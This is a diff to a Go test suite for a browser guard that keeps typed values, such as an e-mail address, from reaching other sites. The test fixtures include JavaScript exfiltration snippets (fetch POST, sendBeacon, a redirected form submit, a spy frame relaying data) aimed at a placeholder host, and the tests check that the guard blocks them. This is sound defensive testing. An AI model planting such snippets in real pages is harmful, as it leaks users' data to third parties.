@@ -22,6 +22,7 @@ func strangers(t testing.TB, script string) (ours, other *site) {
 }
 
 func TestValuesNeverGoElsewhere(t *testing.T) {
+	t.Parallel()
 	for name, script := range map[string]string{
 		"fetch":                 `fetch("OTHER/x", {method: "POST", mode: "no-cors", body: mail})`,
 		"beacon":                `navigator.sendBeacon("OTHER/x", mail)`,
@@ -37,6 +38,7 @@ func TestValuesNeverGoElsewhere(t *testing.T) {
 		"reload of the address": `document.referrerPolicy = "unsafe-url", location.search = "m=" + encodeURIComponent(mail)`,
 	} {
 		t.Run(name, func(t *testing.T) {
+			t.Parallel()
 			ours, other := strangers(t, script)
 			tab := visit(t, shared(t, shell), ours, "/")
 			typeInto(tab)
@@ -59,6 +61,7 @@ func TestValuesNeverGoElsewhere(t *testing.T) {
 }
 
 func TestASendThatGoesElsewhereIsAnErrorAndNotHeld(t *testing.T) {
+	t.Parallel()
 	ours, other := strangers(t, `document.forms.f.action = "OTHER/x", document.forms.f.submit()`)
 	tab := visit(t, shared(t, shell), ours, "/")
 	typeInto(tab)
@@ -69,6 +72,7 @@ func TestASendThatGoesElsewhereIsAnErrorAndNotHeld(t *testing.T) {
 }
 
 func TestARedirectOfTheSendIsJudgedByItsOrigin(t *testing.T) {
+	t.Parallel()
 	for _, way := range []string{"fetch", "form post"} {
 		for _, status := range []int{http.StatusTemporaryRedirect, http.StatusPermanentRedirect} {
 			i := slices.IndexFunc(ways, func(w struct{ name, script, arrives string }) bool { return w.name == way })
@@ -90,6 +94,7 @@ func TestARedirectOfTheSendIsJudgedByItsOrigin(t *testing.T) {
 }
 
 func TestAMainFrameGoesOnlyWhereItMay(t *testing.T) {
+	t.Parallel()
 	ours, other := strangers(t, ``)
 	ours.handle("/away", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, other.local()+"/", http.StatusFound) })
 	tab := visit(t, shared(t, shell), ours, "/")
@@ -115,6 +120,7 @@ func TestAMainFrameGoesOnlyWhereItMay(t *testing.T) {
 }
 
 func TestACaptchasFrameTalksToItsOwnHost(t *testing.T) {
+	t.Parallel()
 	ours, other := strangers(t, `onmessage = () => document.title = "solved"; inner.location = "OTHER/captcha"`)
 	for _, b := range []func() (*Browser, error){shell, full} {
 		tab := visit(t, shared(t, b), ours, "/")
@@ -127,7 +133,64 @@ func TestACaptchasFrameTalksToItsOwnHost(t *testing.T) {
 	}
 }
 
+// What a captcha's frame was told by the page goes nowhere else, even where
+// Chrome keeps a body to itself.
+func TestACaptchasFrameDoesNotCarryValuesAway(t *testing.T) {
+	t.Parallel()
+	for name, body := range map[string]string{
+		"text":  `e.data`,
+		"blob":  `new Blob([e.data])`,
+		"bytes": `new Uint8Array([255, 254, 0, ...new TextEncoder().encode(e.data)])`,
+	} {
+		for browser, get := range map[string]func() (*Browser, error){"shell": shell, "full": full} {
+			t.Run(name+"/"+browser, func(t *testing.T) {
+				t.Parallel()
+				ours, other := strangers(t, `inner.location = "OTHER/spy"; onmessage = () => inner.postMessage(mail, "*")`)
+				other.page("/spy", `<script>onmessage = e => fetch("/x", {method: "POST", body: `+body+`}).catch(() => 0); parent.postMessage("here", "*")</script>`)
+				tab := visit(t, shared(t, get), ours, "/")
+				typeInto(tab)
+				asPage(t, tab, `void go.click()`)
+				if why := refusals(t, tab, 1); why[0] != Elsewhere {
+					t.Errorf("refused as %q", why)
+				}
+				if got := other.received(); len(got) > 0 {
+					t.Errorf("the other site received %q", got)
+				}
+			})
+		}
+	}
+}
+
+// A page that leaves for another address between the reading and the typing.
+func TestARedirectBeforeTypingTypesNothing(t *testing.T) {
+	t.Parallel()
+	ours, other := strangers(t, ``)
+	other.page("/", `<title>Other</title><label>E-mail <input autofocus></label>`)
+	ours.page("/", `<title>Form</title><label>E-mail <input></label>`)
+	tab := openTab(t, shared(t, shell), Guard{Type: []string{ours.URL}, Read: []string{other.local()}, Masker: carrier(planted)})
+	if _, err := tab.Navigate(within(t), ours.URL+"/"); err != nil {
+		t.Fatal(err)
+	}
+	p := awaitNode(t, tab, "textbox", "E-mail")
+	n := named(t, p, "textbox", "E-mail")
+	admitted := allow(t, p, n)
+	asPage(t, tab, `void (location = "`+other.local()+`/")`)
+	awaitTitle(t, tab, "Other")
+	if _, err := tab.Fill(within(t), admitted, n, planted); !errors.Is(err, ErrStale) {
+		t.Errorf("filling with the old permission: %v", err)
+	}
+	p = awaitNode(t, tab, "textbox", "E-mail")
+	n = named(t, p, "textbox", "E-mail")
+	if _, err := tab.Fill(within(t), allow(t, p, n), n, planted); !errors.Is(err, ErrElsewhere) {
+		t.Errorf("filling the other's field: %v", err)
+	}
+	if got := evaluate(t, tab, `document.querySelector("input").value`).Str(); got != "" {
+		t.Errorf("the other's field holds %q", got)
+	}
+}
+
 func TestSubresourcesComeFromAnywhereBeforeTyping(t *testing.T) {
+	t.Parallel()
 	ours, other := strangers(t, `fetch("OTHER/x", {method: "POST", mode: "no-cors", body: "telemetry"})`)
 	tab := visit(t, shared(t, shell), ours, "/")
 	asPage(t, tab, `void go.click()`)
@@ -135,6 +198,7 @@ func TestSubresourcesComeFromAnywhereBeforeTyping(t *testing.T) {
 }
 
 func TestNavigationErrorsAreNamed(t *testing.T) {
+	t.Parallel()
 	s := newSite(t, map[string]string{"/": "x"})
 	s.handle("/missing", http.NotFound)
 	tab := openTab(t, shared(t, shell), Guard{Type: []string{s.URL, "http://127.0.0.1:1", "https://no-such-name.invalid"}})
